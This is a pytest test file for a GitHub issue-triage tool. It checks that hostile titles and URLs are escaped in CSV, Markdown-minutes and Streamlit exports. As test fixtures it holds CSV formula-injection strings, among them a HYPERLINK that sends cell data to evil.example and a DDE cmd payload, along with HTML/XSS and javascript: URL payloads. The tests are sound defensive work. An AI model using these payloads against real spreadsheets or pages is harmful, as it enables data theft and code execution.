"""Hostile text from GitHub stays text in every export: CSV cells (OWASP), the Markdown block for
the minutes (no HTML, no link but the thread's own), and item links (issue 12, D5 and D10)."""

import csv
import io
import re
from dataclasses import replace

import pytest

from triage import export, markup
from triage.agenda import parse_agenda
from triage.facts import ItemFacts, ItemKey
from triage.meeting import demo_meeting
from triage.ranking.scoring import rank_items

HOSTILE_TITLES = {
    "falcosecurity/falco#1340": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "falcosecurity/libs#1557": "+cmd|' /C calc'!A0",
    "falcosecurity/plugins#378": "-2+3",
    "falcosecurity/libs#470": "@SUM(1+1)",
    "falcosecurity/libs#381": "\tindented=1+1",
    "falcosecurity/libs#1376": "<img src=x onerror=alert(1)> <script>alert(2)</script>",
    "falcosecurity/falco#2960": "fix\n# Injected heading\n<javascript:alert(3)>",
    "falcosecurity/libs#1375": "![pixel](https://pixel.example/p.png) [click](https://evil.example)",
}


@pytest.fixture(scope="module")
def hostile(demo_config):
    """The demo ranked with hostile titles, and one item whose API `url` tries to leave the link."""
    meeting = demo_meeting()
    items = []
    for item in meeting.facts.items:
        title = HOSTILE_TITLES.get(item.ref, item.title)
        url = item.url
        if item.ref == "falcosecurity/falco#2413":
            url = "https://github.com/falcosecurity/falco/pull/2413) [x](javascript:alert(4)"
        items.append(replace(item, title=title, url=url))
    facts = replace(meeting.facts, items=tuple(items))
    p = demo_config.preset()
    return rank_items(facts, p.weights, p.params, meeting.as_of, meeting.context(), demo_config.people)


def test_csv_cells_starting_a_formula_are_neutralised_with_a_quote(hostile):
    # issue 12, D5: titles starting =, +, -, @ or a tab were written verbatim.
    rows = {r["ref"]: r for r in csv.DictReader(io.StringIO(export.to_csv(hostile)))}
    assert rows["falcosecurity/falco#1340"]["title"] == "'" + HOSTILE_TITLES["falcosecurity/falco#1340"]
    assert rows["falcosecurity/libs#1557"]["title"] == "'+cmd|' /C calc'!A0"
    assert rows["falcosecurity/plugins#378"]["title"] == "'-2+3"
    assert rows["falcosecurity/libs#470"]["title"] == "'@SUM(1+1)"
    assert rows["falcosecurity/libs#381"]["title"] == "'\tindented=1+1"
    # Plain titles and numbers are untouched.
    assert rows["falcosecurity/libs#1375"]["title"] == HOSTILE_TITLES["falcosecurity/libs#1375"]
    assert float(rows["falcosecurity/libs#470"]["score"]) > 0
    formula = ("=", "+", "-", "@", "\t", "\r")
    text_cells = [v for row in rows.values() for k, v in row.items() if k in export.CSV_COLUMNS and k != "score"]
    assert not [v for v in text_cells if v.startswith(formula)]


def test_markdown_export_writes_html_headings_and_links_as_text(hostile):
    # issue 12, D10: raw HTML, a javascript: autolink and a newline-injected heading passed through.
    md = export.to_markdown(hostile, "Falco <b>2023</b>")
    after_links = [re.sub(r"^\d+\. \[[^]]+\]\([^)]+\) ", "", line) for line in md.splitlines()[3:]]
    assert not [line for line in after_links if re.search(r"(?<!\\)[<\[]", line)]  # no tag, link or image
    assert "\\<img src=x onerror=alert(1)\\>" in md
    assert not [line for line in md.splitlines() if line.startswith("#") and "Injected" in line]
    assert "fix \\# Injected heading \\<javascript:alert(3)\\>" in md
    assert "\\!\\[pixel\\](https://pixel.example/p.png) \\[click\\](https://evil.example)" in md
    assert md.splitlines()[0] == "### Falco \\<b\\>2023\\</b\\>"
    # The refs still read back, in rank order, each with its own thread's link.
    assert [r.ref for r in parse_agenda(md)] == list(hostile["ref"])


def test_markdown_export_links_only_to_the_thread_on_github(hostile):
    # issue 12, D10: a bad API `url` broke out of the link syntax.
    md = export.to_markdown(hostile, "Falco")
    line = next(x for x in md.splitlines() if "falcosecurity/falco#2413" in x)
    assert "[falcosecurity/falco#2413](https://github.com/falcosecurity/falco/pull/2413) " in line
    assert "alert(4)" not in md


@pytest.mark.parametrize("url", [
    "javascript:alert(1)//github.com/o/r/pull/7",
    "https://evil.example/o/r/pull/7",
    "https://github.com/o/r/pull/8",  # another thread
    "https://user:pw@github.com/o/r/pull/7",
    "https://github.com/o/r/pull/7?x=<script>",
    "https://github.com/o/r/pull/7 onmouseover=x",
    "http://github.com:99999/o/r/pull/7",
    "data:text/html,<b>x</b>",
    None,
])
def test_item_links_are_the_thread_on_a_github_host_or_built_from_the_key(url):
    item = ItemFacts(ItemKey("o/r", 7), kind="pull", url=url)
    assert item.html_url == "https://github.com/o/r/pull/7"


def test_item_links_keep_a_moved_repository_and_a_github_enterprise_host(monkeypatch):
    assert ItemFacts(ItemKey("o/r", 7), url="https://github.com/o/new/issues/7").html_url == \
        "https://github.com/o/new/issues/7"
    monkeypatch.setenv("GITHUB_API_URL", "https://ghe.example.org/api/v3")
    assert ItemFacts(ItemKey("o/r", 7), url="https://ghe.example.org/o/r/issues/7").html_url == \
        "https://ghe.example.org/o/r/issues/7"


def test_markup_inline_shows_streamlit_markdown_as_typed():
    wj = "\u2060"  # breaks what Streamlit finds after escapes: autolinks, colours, icons, emoji
    assert markup.inline("![x](http://a.example/p.png)") == f"!\\[x\\](http{wj}://a.example/p.png)"
    assert markup.inline("**bold** [click here](https://evil.example)") == \
        f"\\*\\*bold\\*\\* \\[click here\\](https{wj}://evil.example)"
    assert markup.inline("title\n# heading") == "title # heading"  # one line: no heading
    assert markup.inline("# heading") == "\\# heading"
    assert markup.inline("1. list") == "1\\. list"
    assert markup.inline(":red[alarm] :material/home: :smile: $x^2$ <b>") == \
        f":{wj}red\\[alarm\\] :{wj}material/home: :{wj}smile: \\$x^2\\$ \\<b\\>"
    assert markup.inline("visit www.evil.example or me@evil.example") == \
        f"visit www{wj}.evil.example or me{wj}@evil.example"
    # Words with underscores, quotes, refs, times and scan targets stay as they are.
    for plain in ("Unknown criterion 'w_foo' in falcosecurity/libs#381", "after 18:50 UTC", "org:falcosecurity",
                  "assigned to @LucaGuerra."):
        assert markup.inline(plain) == plain
    assert markup.inline("_emphasis_") == "\\_emphasis\\_"


def test_markup_code_keeps_any_text_inside_one_code_span():
    # issue 12: config values shown in code spans (the Criteria page) must not close the span early
    assert markup.code("kind/bug") == "`kind/bug`"
    assert markup.code("a`b") == "``a`b``"
    assert markup.code("``x") == "``` ``x ```"
    assert markup.code("x\n# heading") == "`x # heading`"
    assert markup.code("") == "` `"


def test_a_reason_naming_threads_keeps_them_as_code_and_the_rest_as_text():
    # issue 12 with issue 10: a reason's thread refs are code (so they do not join the next agenda), and
    # whatever else the reason holds (a label, a title quoted from GitHub) stays text.
    row = {"rank": 1, "ref": "falcosecurity/libs#470", "url": "https://github.com/falcosecurity/libs/pull/470",
           "kind": "pull", "title": "t", "score": 0.5, "waiting_on": None, "waiting_days": None,
           "why": "labelled <img src=x> [x](https://evil.example) by falcosecurity/libs#12 and `libs#3`\n# h"}
    line = export.rows_to_markdown([row], "h").splitlines()[2]
    assert line.endswith("score 0.50; labelled \\<img src=x\\> \\[x\\](https://evil.example) by "
                         "`falcosecurity/libs#12` and \\`libs\\#3\\` \\# h")
